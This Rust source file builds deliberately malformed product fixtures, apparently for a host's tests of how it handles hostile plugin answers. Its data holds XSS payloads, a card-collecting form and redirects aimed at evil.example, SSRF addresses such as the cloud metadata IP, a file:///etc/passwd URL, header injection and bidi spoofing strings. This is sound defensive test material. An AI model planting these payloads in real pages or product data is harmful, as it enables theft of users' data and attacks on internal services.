//! Products that are wrong in one way each, by name. What must become of each stands
//! in the host's test of hostile answers.

use crate::bindings::exports::sourcepilot::plugin::catalog::{Product, Variant};
use crate::bindings::sourcepilot::plugin::types::{Attribute, Money, ShippingQuote};
use crate::products::{money, titled, variant};

const PICTURE: &str = "https://img.hostile.example/1.jpg";

/// A product that is honest but for the named thing.
pub(crate) fn form(name: &str) -> Product {
    let mut product = titled("Lamp");
    product.ref_.id = format!("form-{name}");
    product.variants = vec![colored("1", "Red"), colored("2", "Blue")];
    let (part, what) = name.split_once('-').unwrap_or((name, ""));
    match part {
        "title" => product.title = title(what),
        "html" => product.description_html = Some(html(what)),
        "image" => images(&mut product, what),
        "price" => prices(&mut product, what),
        "variant" => variants(&mut product, what),
        _ => rest(&mut product, name),
    }
    product
}

fn colored(id: &str, color: &str) -> Variant {
    Variant { options: vec![option("Color", color)], title: color.into(), ..variant(id) }
}

fn option(name: &str, value: &str) -> Attribute {
    Attribute { name: name.into(), value: value.into() }
}

fn title(what: &str) -> String {
    match what {
        "control" => "La\u{7}mp\u{1b}[31m".into(),
        "nul" => "La\0mp".into(),
        "lines" => "Lamp\r\nSet-Cookie: x".into(),
        "bidi" => "Lamp \u{202E}gnp.exe\u{202C}".into(),
        "isolate" => "\u{2066}Lamp\u{2069}\u{200F}".into(),
        "zero-width" => "L\u{200B}a\u{FEFF}m\u{2060}p".into(),
        "tags" => "Lamp\u{E0041}\u{E0042}\u{E007F}".into(),
        "zalgo" => format!("L{}amp", "\u{336}\u{489}\u{300}".repeat(30)),
        "private-use" => "Lamp \u{E000}\u{F8FF}".into(),
        "html" => "Lamp <img src=x onerror=steal()>".into(),
        "script" => "Lamp <script>steal()</script>".into(),
        "long" => "Lamp ".repeat(180),
        "too-long" => "x".repeat(1001),
        "endless" => "x".repeat(200_000),
        "blank" => " \t\n".into(),
        "hidden" => "\u{200B}\u{202E}\u{0}".into(),
        _ => String::new(),
    }
}

fn html(what: &str) -> String {
    match what {
        "script" => "<p>Good</p><script>steal()</script>".into(),
        "event" => "<p onclick=\"steal()\" onmouseover='x'>Good</p>".into(),
        "iframe" => "<p>Good</p><iframe src=\"https://evil.example/\"></iframe>".into(),
        "style" => "<p style=\"position:fixed;top:0\" class=\"x\" id=\"cart\">Good</p><style>body{display:none}</style>".into(),
        "link" => "<p>Good</p><a href=\"javascript:steal()\">x</a>".into(),
        "entity-link" => "<p>Good</p><a href=\"&#106;avascript:steal()\">x</a>".into(),
        "leads-away" => "<p>Good</p><a href=\"https://evil.example/shop\">cheaper here</a>".into(),
        "data-picture" => "<p>Good</p><img src=\"data:image/svg+xml;base64,AAAA\">".into(),
        "private-picture" => "<p>Good</p><img src=\"http://169.254.169.254/latest/meta-data\">".into(),
        "user-picture" => "<p>Good</p><img src=\"https://user:word@img.hostile.example/a.jpg\">".into(),
        "svg" => "<p>Good</p><svg onload=\"steal()\"><script>steal()</script></svg>".into(),
        "math" => "<p>Good</p><math><mi xlink:href=\"javascript:steal()\">x</mi></math>".into(),
        "form" => "<p>Good</p><form action=\"https://evil.example/\"><input name=\"card\"></form>".into(),
        "meta" => "<p>Good</p><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">".into(),
        "base" => "<base href=\"https://evil.example/\"><p>Good</p>".into(),
        "object" => "<p>Good</p><object data=\"https://evil.example/x.swf\"></object><embed src=\"x\">".into(),
        "comment" => "<p>Good</p><!--[if IE]><script>steal()</script><![endif]-->".into(),
        "template" => "<p>Good</p><template><script>steal()</script></template>".into(),
        "mutation" => "<p>Good</p><noscript><p title=\"</noscript><img src=x onerror=steal()>\">".into(),
        "bidi" => "<p>Good \u{202E}dne</p>".into(),
        "nul" => "<p>Good</p><scr\0ipt>steal()</scr\0ipt>".into(),
        "open" => "<p>Good</p><div><b><i".into(),
        "bomb" => format!("<p>Good</p>{}", "<div>".repeat(60_000)),
        "huge" => "x".repeat(600 * 1024),
        _ => "<p>Good</p>".into(),
    }
}

fn images(product: &mut Product, what: &str) {
    let address = match what {
        "javascript" => "javascript:steal()",
        "data" => "data:image/svg+xml,<svg onload=steal()>",
        "file" => "file:///etc/passwd",
        "user" => "https://user:word@img.hostile.example/2.jpg",
        "relative" => "/2.jpg",
        "private" => "https://10.0.0.1/2.jpg",
        "metadata" => "http://169.254.169.254/latest/meta-data/2.jpg",
        "number" => "http://2130706433/2.jpg",
        "six" => "http://[::ffff:127.0.0.1]/2.jpg",
        "localhost" => "https://localhost/2.jpg",
        "internal" => "https://metadata.google.internal/2.jpg",
        "single" => "https://intranet/2.jpg",
        "plain" => "http://img.hostile.example/2.jpg",
        "control" => "https://img.hostile.example/2.jpg\r\nx: y",
        _ => PICTURE,
    };
    match what {
        "twice" => product.images = vec![PICTURE.into(); 50],
        "many" => product.images = vec![PICTURE.into(); 201],
        "long" => product.images.push(format!("https://img.hostile.example/{}", "x".repeat(3000))),
        "endless" => product.images.push(format!("https://img.hostile.example/{}", "x".repeat(5000))),
        _ => product.images.push(address.into()),
    }
}

fn prices(product: &mut Product, what: &str) {
    let one = |product: &mut Product, amount: &str| product.variants[1].price = money(amount);
    match what {
        "none" => product.variants.iter_mut().for_each(|variant| variant.price = money("0")),
        "one-zero" => one(product, "0.00"),
        "dust" => one(product, "0.000001"),
        "negative" => one(product, "-9.50"),
        "huge" => one(product, "5000000"),
        "larger" => one(product, "99999999999999999999"),
        "spread" => one(product, "99999.00"),
        "below-list" => {
            one(product, "950.00");
            product.variants[1].list_price = Some(money("9.00"));
        }
        "advertised" => product.list_price = Some(money("99999.00")),
        "list-below" => product.variants[0].list_price = Some(money("1.00")),
        "exponent" => one(product, "1e3"),
        "nan" => one(product, "NaN"),
        "comma" => one(product, "9,50"),
        "signs" => one(product, "+9.50"),
        "digits" => one(product, "9.5000000000001"),
        "empty" => one(product, ""),
        "mixed" => product.variants[1].price.currency = "EUR".into(),
        "code" => product.variants[1].price.currency = "EURO".into(),
        "injected" => product.variants[1].price.currency = "U'D".into(),
        "stated" => product.price = Money { amount: "0.01".into(), currency: "USD".into() },
        _ => {}
    }
}

fn variants(product: &mut Product, what: &str) {
    let second = &mut product.variants[1];
    match what {
        "none" => product.variants.clear(),
        "twins" => second.id = "1".into(),
        "many" => product.variants = (0..2049).map(|id| colored(&id.to_string(), &id.to_string())).collect(),
        "id-empty" => second.id = String::new(),
        "id-long" => second.id = "x".repeat(256),
        "id-nul" => second.id = "2\0".into(),
        "id-hidden" => second.id = "2\u{200B}".into(),
        "choice-twice" => second.options.push(option("color", "Green")),
        "choice-blank" => second.options[0].value = " \u{200B}".into(),
        "choice-unnamed" => second.options[0].name = "\u{202E}".into(),
        "choice-many" => second.options = (0..11).map(|n| option(&format!("C{n}"), "x")).collect(),
        "choices-apart" => {
            for (n, variant) in product.variants.iter_mut().enumerate() {
                variant.options = (0..8).map(|at| option(&format!("C{n}-{at}"), "x")).collect();
            }
        }
        "choice-bidi" => second.options[0].value = "Bl\u{202E}ue\0".into(),
        "choice-html" => second.options[0].value = "<b onclick=steal()>Blue</b>".into(),
        "same" => second.options[0].value = "Red".into(),
        "missing" => second.options.clear(),
        "image" => second.image = Some("javascript:steal()".into()),
        "image-private" => second.image = Some("https://192.168.1.1/2.jpg".into()),
        "sku" => second.sku = Some("A\u{202E}\n1".into()),
        "barcode" => second.barcode = Some("<script>steal()</script>".into()),
        "weight" => second.weight_grams = Some(u32::MAX),
        "stock" => second.stock = Some(u32::MAX),
        _ => {}
    }
}

fn rest(product: &mut Product, name: &str) {
    match name {
        "rating-six" => product.rating = Some("6".into()),
        "rating-word" => product.rating = Some("five".into()),
        "count-huge" => (product.order_count, product.rating_count) = (Some(u64::MAX), Some(u64::MAX)),
        "category-html" => {
            product.categories = vec!["<script>steal()</script>Lamps\u{202E}".into(), "\0".into()]
        }
        "category-many" => product.categories = vec!["Lamps".into(); 201],
        "supplier-bidi" => product.supplier_name = Some("Sh\u{202E}op\u{200B}\n".into()),
        "page-script" => product.ref_.url = Some("javascript:steal()".into()),
        "page-private" => product.ref_.url = Some("https://10.0.0.1/admin".into()),
        "id-nul" => product.ref_.id = "form\0".into(),
        "id-blank" => product.ref_.id = String::new(),
        "extra-many" => product.extra = vec![option("x-hostile.a", "b"); 201],
        "extra-unnamed" => product.extra = vec![option("\0", "b")],
        "extra-long" => product.extra = vec![option("x-hostile.a", &"b".repeat(9000))],
        "freight-days" => product.shipping = Some(quote("1.00", Some(100_000))),
        "freight-slow" => product.shipping = Some(quote("1.00", Some(3000))),
        "freight-negative" => product.shipping = Some(quote("-1.00", None)),
        "freight-absurd" => product.shipping = Some(quote("9999999", None)),
        "freight-bidi" => {
            product.shipping =
                Some(ShippingQuote { label: "Po\u{202E}st\0".into(), ..quote("1.00", Some(9)) });
        }
        _ => {}
    }
}

fn quote(cost: &str, days: Option<u32>) -> ShippingQuote {
    ShippingQuote {
        service: "post".into(),
        label: "Post".into(),
        cost: Some(money(cost)),
        min_days: days,
        max_days: days,
        ships_from: Some("CN".into()),
        tracked: None,
        extra: vec![],
    }
}
